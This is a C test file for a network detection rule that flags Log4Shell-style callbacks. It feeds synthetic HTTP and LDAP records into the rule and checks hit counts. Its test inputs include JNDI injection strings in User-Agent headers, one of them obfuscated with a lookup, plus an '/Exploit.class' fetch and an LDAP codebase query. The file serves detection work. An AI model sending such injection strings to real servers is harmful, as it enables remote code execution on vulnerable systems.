// SPDX-License-Identifier: Apache-2.0
#include "behaviour/trial.h"

static struct record_head head_of(int64_t second, uint8_t from, uint8_t to)
{
    return (struct record_head){.timestamp = second * 1'000'000 + 1,
        .src_ip = trial_addr(10, 0, 0, from),
        .dest_ip = trial_addr(10, 0, 0, to),
        .proto = BYTES("TCP")};
}

static void ask(struct trial *t, int64_t second, const char *agent)
{
    struct record_http http = {.url = BYTES("/"), .http_user_agent = bytes_from_text(agent)};
    struct record record = {.head = head_of(second, 66, 1), .type = RECORD_HTTP, .body = &http};
    trial_record(t, &record);
}

static void look_up(struct trial *t, int64_t second, const char *base, const char *attribute)
{
    struct record_ldap_attribute type = {.type = bytes_from_text(attribute)};
    struct record_ldap_response answer = {.has_search_result_entry = true,
        .search_result_entry = {.attributes = &type, .attributes_count = 1}};
    struct record_ldap ldap = {.has_request = true,
        .request = {.has_search_request = true,
            .search_request = {.base_object = bytes_from_text(base)}},
        .responses = &answer,
        .responses_count = 1};
    struct record record = {.head = head_of(second, 1, 9), .type = RECORD_LDAP, .body = &ldap};
    trial_record(t, &record);
}

static void fetch(struct trial *t, int64_t second, const char *url)
{
    struct record_http http = {.url = bytes_from_text(url),
        .http_user_agent = BYTES("Java/1.8.0"),
        .has_status = true,
        .status = 200};
    struct record record = {.head = head_of(second, 1, 9), .type = RECORD_HTTP, .body = &http};
    trial_record(t, &record);
}

static void connect(struct trial *t, int64_t second, uint8_t to)
{
    struct record_flow flow = {.payload_toserver = 20};
    struct record record = {.head = head_of(second, 1, to), .type = RECORD_FLOW, .body = &flow};
    trial_record(t, &record);
}

TEST(calls_the_place_it_was_told)
{
    struct trial t;
    trial_begin(&t);
    ask(&t, 0, "${${lower:j}ndi:rmi://10.0.0.9:1099/a}");
    connect(&t, 1, 8);
    connect(&t, 4'000, 9); // much later
    CHECK_EQ(trial_hits(&t, "web.callback", NULL), 0);
    ask(&t, 5'000, "${jndi:rmi://10.0.0.9:1099/a}");
    connect(&t, 5'001, 9);
    connect(&t, 5'002, 9);
    CHECK_EQ(trial_hits(&t, "web.callback", "called"), 1);
    CHECK(bytes_equal(trial_fact(&t, "sender"), BYTES("10.0.0.66")));
    trial_end(&t);
}

TEST(told_after_its_call)
{
    struct trial t;
    trial_begin(&t);
    look_up(&t, 0, "a", "cn");
    ask(&t, 1, "${jndi:ldap://10.0.0.9:1389/a}");
    fetch(&t, 2, "/Exploit.class");
    CHECK_EQ(trial_hits(&t, "web.callback", "called"), 1);
    CHECK_EQ(trial_hits(&t, "web.callback", "class"), 1);
    trial_end(&t);
}

TEST(java_objects_by_ldap)
{
    struct trial t;
    trial_begin(&t);
    look_up(&t, 0, "Basic/Command/x", "javaCodeBase");
    CHECK_EQ(trial_hits(&t, "web.callback", "object"), 1);
    trial_end(&t);
}

// A server that was only tried, a directory that is only searched, Java that updates itself.
TEST(what_is_none)
{
    struct trial t;
    trial_begin(&t);
    fetch(&t, 0, "/jre/update.class");
    ask(&t, 1, "${jndi:ldap://10.0.0.9:1389/a}");
    look_up(&t, 2, "dc=city,dc=example", "cn");
    connect(&t, 3, 8);
    fetch(&t, 4, "/jre/update.xml");
    CHECK_EQ(trial_hits(&t, "web.callback", NULL), 0);
    trial_end(&t);
}

TEST_MAIN(T(calls_the_place_it_was_told), T(told_after_its_call), T(java_objects_by_ldap),
    T(what_is_none))
